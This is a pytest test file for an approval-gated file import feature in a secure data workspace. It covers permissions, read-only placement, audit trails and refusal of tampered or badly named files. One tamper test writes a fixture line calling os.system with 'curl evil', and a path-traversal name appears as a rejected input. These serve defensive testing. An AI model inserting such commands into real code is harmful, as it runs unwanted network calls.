"""Governed ingress (issue 12, finding 4): imports into a workspace need a data steward's approval."""

import json
import os
from datetime import date, timedelta

import pytest

from permits.permissions import PermissionDenied
from secure_env.workspace import ingress
from secure_env.workspace import provision as W
from tests.factories import make_case, make_delivery, make_staff, who
from toisio import audit


@pytest.fixture
def ws(svc, tmp_path):
    staff = make_staff(svc)
    permit = make_case(svc, staff, day=date.today() - timedelta(days=40)).case_id
    W.create(svc, who(svc, "hanna"), permit, make_delivery(tmp_path / "delivery", permit))
    staff["bob"] = who(svc, "bob")
    return staff, permit


def test_an_approved_import_lands_read_only_in_the_workspace(svc, ws, tmp_path):
    staff, permit = ws
    src = tmp_path / "atc_groups.py"
    src.write_text("GROUPS = {'A10': 'diabetes'}\n")
    req = ingress.request_import(svc, staff["bob"], permit, src, purpose="ATC grouping for the models")
    assert req.state == "requested" and req.requester == "bob"
    target = W.paths(svc, permit).root / "imports" / "atc_groups.py"
    assert not target.exists()  # nothing lands before approval
    done = ingress.decide_import(svc, staff["oscar"], req.import_id, approve=True)
    assert done.state == "approved" and done.decided_by == "oscar"
    assert target.read_text() == src.read_text() and (target.stat().st_mode & 0o222) == 0
    with svc.engine.connect() as conn:
        actions = [e.action for e in audit.events(conn, subject=f"import:{req.import_id}")]
    assert actions == ["import.requested", "import.approved"]
    with pytest.raises(ingress.IngressError, match="already approved"):
        ingress.decide_import(svc, staff["oscar"], req.import_id, approve=False, reason="no")


def test_who_may_request_and_decide(svc, ws, tmp_path):
    staff, permit = ws
    src = tmp_path / "tool.py"
    src.write_text("x = 1\n")
    with pytest.raises(PermissionDenied, match="only an analyst named on the permit may"):
        ingress.request_import(svc, staff["alice"], permit, src, purpose="p")
    req = ingress.request_import(svc, staff["bob"], permit, src, purpose="p")
    for user in ("bob", "hanna", "alice"):
        with pytest.raises(PermissionDenied):
            ingress.decide_import(svc, staff[user], req.import_id, approve=True)
    with pytest.raises(ingress.IngressError, match="reason"):
        ingress.decide_import(svc, staff["oscar"], req.import_id, approve=False)
    done = ingress.decide_import(svc, staff["oscar"], req.import_id, approve=False, reason="use the code table")
    assert done.state == "rejected" and not (W.paths(svc, permit).root / "imports" / "tool.py").exists()
    assert [r.import_id for r in ingress.list_imports(svc, staff["bob"], permit)] == [req.import_id]
    assert ingress.list_imports(svc, staff["kela1"]) == []


def test_a_staged_file_changed_after_the_request_is_refused(svc, ws, tmp_path):
    staff, permit = ws
    src = tmp_path / "tool.py"
    src.write_text("x = 1\n")
    req = ingress.request_import(svc, staff["bob"], permit, src, purpose="p")
    staged = svc.settings.home / "imports" / req.import_id / "tool.py"
    staged.write_text("import os; os.system('curl evil')\n")
    with pytest.raises(ingress.IngressError, match="changed"):
        ingress.decide_import(svc, staff["oscar"], req.import_id, approve=True)


@pytest.mark.parametrize("name", ["../x.py", ".hidden", "a b.py", "x" * 200])
def test_bad_names_and_sizes_are_refused(svc, ws, tmp_path, name):
    staff, permit = ws
    with pytest.raises(ingress.IngressError):
        ingress.request_import(svc, staff["bob"], permit, tmp_path / name, purpose="p")


def test_import_state_cannot_be_forged_outside_the_chain(svc, ws, tmp_path):
    """The state is folded from audit events only: there is no table to edit."""
    staff, permit = ws
    src = tmp_path / "t.py"
    src.write_text("1\n")
    req = ingress.request_import(svc, staff["bob"], permit, src, purpose="p")
    assert ingress.get(svc, req.import_id).state == "requested"
    assert json.loads(json.dumps(req.__dict__))["sha256"] == req.sha256
    assert os.path.exists(svc.settings.home / "imports" / req.import_id)
